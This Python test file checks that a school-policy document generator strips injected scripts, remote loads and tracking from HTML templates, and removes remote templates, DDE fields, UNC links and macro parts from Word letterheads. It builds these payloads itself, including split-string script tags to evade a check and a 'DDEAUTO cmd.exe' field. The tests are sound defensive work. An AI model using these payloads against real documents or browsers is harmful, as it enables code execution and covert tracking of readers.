"""Hostile corpus, second round: what a school's files try to put in front of a reader (review RC3).

- W09: a school template that sneaks a script, a refresh, a remote stylesheet and a tracking
  picture into `policy.html` (past the load-time check, through `|safe`). The published page
  is opened in headless Chromium with a local HTTP server listening on 127.0.0.1: nothing
  runs, and the server is asked for nothing.
- L07, L11: a letterhead carrying a remote attached template, INCLUDEPICTURE and DDEAUTO
  fields, a UNC hyperlink, an altChunk and a macro part: the Word files carry none of them.
"""

from __future__ import annotations

import http.server
import io
import re
import shutil
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import pytest
from click.testing import CliRunner

from policypack.cli import main
from tests.conftest import ROOT
from tests.test_web import CHROMIUM, CHROMIUM_ARGS

EXAMPLE = ROOT / "examples" / "oakfield"


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1 that records every request made to it."""
    asked: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            self.wfile.write(b"document.title = 'PWNED';")

        def log_message(self, *args: Any) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", asked
    httpd.shutdown()
    httpd.server_close()


def school_with(tmp_path: Path, formats: str, templates: dict[str, str] | None = None, extra: str = "") -> Path:
    folder = tmp_path / "school"
    folder.mkdir()
    shutil.copy(EXAMPLE / "crest.svg", folder)
    text = (EXAMPLE / "school.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "documents: [policy, staff-card, incident-form, parent-leaflet, posters]", "documents: [policy]"
    )
    start = text.index("  formats:")
    end = text.index("\n", start)
    text = text[:start] + f"  formats: {formats}{extra}" + text[end:]
    if templates:
        (folder / "templates").mkdir()
        for name, body in templates.items():
            (folder / "templates" / name).write_text(body, encoding="utf-8")
        text += "templates: templates\n"
    (folder / "school.yaml").write_text(text, encoding="utf-8")
    return folder / "school.yaml"


@pytest.mark.usefixtures("needs_dot", "needs_chromium")
def test_a_school_template_adding_scripts_and_remote_loads_runs_and_fetches_nothing(
    tmp_path: Path, server: tuple[str, list[str]]
) -> None:
    address, asked = server
    sneaked = " ~ ".join(  # built at render time, so the load-time check on the template's own text cannot see it
        [
            f"'<scr' ~ 'ipt src={address}/x.js></scr' ~ 'ipt>'",
            "'<scr' ~ 'ipt>document.title=\"PWNED\"</scr' ~ 'ipt>'",
            f"'<meta http-equiv=refresh content=\"0;url={address}/refresh\">'",
            f"'<link rel=stylesheet href={address}/track.css>'",
            f'\'<img src={address}/pixel.png alt="" onerror="document.title=1">\'',
            f"'<style>@imp' ~ 'ort url({address}/import.css); body {{ background: url({address}/bg.png) }}</style>'",
            f"'<a href=\"javascript:fetch(`{address}/click`)\">help</a>'",
        ]
    )
    policy = (
        "{% extends 'documents/policy.html.j2' %}{% block meta %}{{ super() }}{{ ("
        + sneaked
        + ")|safe }}{% endblock %}"
    )
    profile = school_with(tmp_path, "[html]", {"policy.html.j2": policy})
    result = CliRunner().invoke(main, ["build", str(profile), "-o", str(tmp_path / "out")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    page_file = tmp_path / "out" / "oakfield-academy" / "policy-preview.html"
    text = page_file.read_text(encoding="utf-8")
    assert "<script" not in text and "http-equiv=refresh" not in text.replace('"', "") and address not in text
    assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'' in text
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        page = browser.new_page()
        page.goto(page_file.as_uri())
        page.wait_for_load_state("networkidle")
        time.sleep(1.5)  # long enough for a refresh of 0 seconds or a late fetch to happen
        for link in page.query_selector_all("a"):
            assert not (link.get_attribute("href") or "").lower().startswith("javascript")
        title = page.title()
        browser.close()
    assert title != "PWNED" and title != "1"
    assert asked == [], f"the page fetched {asked}"


# --- The letterhead -----------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = ("127.0.0.1:8765", "remote-template.dotm", "INCLUDEPICTURE", "DDEAUTO", "cmd.exe", "altChunk", "vbaProject")


def hostile_letterhead() -> bytes:
    """A real python-docx letterhead, then every external part of review case L07 (and L11's macros) added."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Oakfield Academy letterhead"
    plain = io.BytesIO()
    document.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/header1.xml" or item.filename.startswith("word/header"):
                data = data.replace(
                    b"</w:hdr>",
                    (
                        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
                        b'"http://127.0.0.1:8765/pixel.png" \\d </w:instrText></w:r><w:r><w:fldChar '
                        b'w:fldCharType="end"/></w:r></w:p>'
                        b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd.exe /c calc ">'
                        b"<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
                        b'<w:p><w:hyperlink r:id="rIdUnc"><w:r><w:t>share</w:t></w:r></w:hyperlink></w:p>'
                        b'<w:altChunk r:id="rIdAlt"/></w:hdr>'
                    ),
                )
                if b"xmlns:r=" not in data:
                    data = data.replace(b"<w:hdr ", f'<w:hdr xmlns:r="{R}" '.encode(), 1)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    b'<Override PartName="/word/alt.html" ContentType="text/html"/></Types>',
                )
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
                    b' Target="vbaProject.bin"/></Relationships>',
                )
            target.writestr(item, data)
        header_rels = [n for n in source.namelist() if n.startswith("word/_rels/header")]
        rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rIdUnc" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="file://///127.0.0.1:8765/share" TargetMode="External"/>'
            '<Relationship Id="rIdAlt" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'aFChunk" Target="alt.html"/></Relationships>'
        )
        if not header_rels:
            for name in source.namelist():
                if name.startswith("word/header") and name.endswith(".xml"):
                    target.writestr(f"word/_rels/{name.split('/')[-1]}.rels", rels)
        target.writestr("word/alt.html", '<html><img src="http://127.0.0.1:8765/alt.png"></html>')
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
        target.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://127.0.0.1:8765/remote-template.dotm" TargetMode="External"/>'
            "</Relationships>",
        )
    return out.getvalue()


@pytest.mark.usefixtures("needs_dot")
def test_a_letterhead_with_every_external_part_gives_word_files_with_none_of_them(tmp_path: Path) -> None:
    profile = school_with(tmp_path, "[docx]", extra="\n  word_template: letterhead.docx")
    letterhead = hostile_letterhead()
    with zipfile.ZipFile(io.BytesIO(letterhead)) as archive:  # the case really carries them all
        everything = b"".join(archive.read(name) for name in archive.namelist()).decode("latin-1")
        assert all(part in everything or part in str(archive.namelist()) for part in EXTERNAL)
    (profile.parent / "letterhead.docx").write_bytes(letterhead)
    result = CliRunner().invoke(main, ["build", str(profile), "-o", str(tmp_path / "out")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    policy = tmp_path / "out" / "oakfield-academy" / "policy.docx"
    with zipfile.ZipFile(policy) as archive:
        names = archive.namelist()
        content = b"".join(archive.read(name) for name in names).decode("utf-8", "replace")
    assert not [name for name in names if "vba" in name.lower() or name.endswith((".html", ".bin"))], names
    for part in EXTERNAL:
        assert part not in content, part
    # The only outside addresses are the pack's own links (its web, mail and phone links), never a
    # template, picture or frame to fetch: each is a hyperlink whose address is of those kinds.
    outside = re.findall(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", content)
    assert outside, "the policy's own links are in the file"
    for relationship in outside:
        assert 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"' in relationship
        assert re.search(r'Target="(https://|http://|mailto:|tel:)', relationship), relationship
    assert docx.Document(str(policy)).sections[0].header.paragraphs[0].text == "Oakfield Academy letterhead"


def lying_letterhead() -> bytes:
    """L01: a real letterhead plus a part whose zip directory claims 1 kB while its data inflates to 20 MB."""
    plain = io.BytesIO()
    docx.Document().save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("word/media/filler.bin", bytes(20_000_000))
    data = bytearray(out.getvalue())
    honest = (20_000_000).to_bytes(4, "little")
    lie = (1_000).to_bytes(4, "little")
    name = b"word/media/filler.bin"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local header, then directory
        at = data.find(signature)
        while at != -1:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name and data[at + size_at : at + size_at + 4] == honest:
                data[at + size_at : at + size_at + 4] = lie
            at = data.find(signature, at + 4)
    return bytes(data)


def test_a_letterhead_whose_directory_lies_is_refused_at_validate_as_damaged(tmp_path: Path) -> None:
    profile = school_with(tmp_path, "[docx]", extra="\n  word_template: letterhead.docx")
    letterhead = lying_letterhead()
    with zipfile.ZipFile(io.BytesIO(letterhead)) as archive:  # the case really lies
        assert archive.getinfo("word/media/filler.bin").file_size == 1_000
    (profile.parent / "letterhead.docx").write_bytes(letterhead)
    result = CliRunner().invoke(main, ["validate", str(profile)])
    assert result.exit_code == 1, result.output
    line = next(n for n, text in enumerate(profile.read_text().splitlines(), 1) if "word_template" in text)
    assert f"school.yaml:{line}:" in result.output
    assert "letterhead.docx is damaged" in result.output and "save it again from Word" in result.output
    assert "Traceback" not in result.output
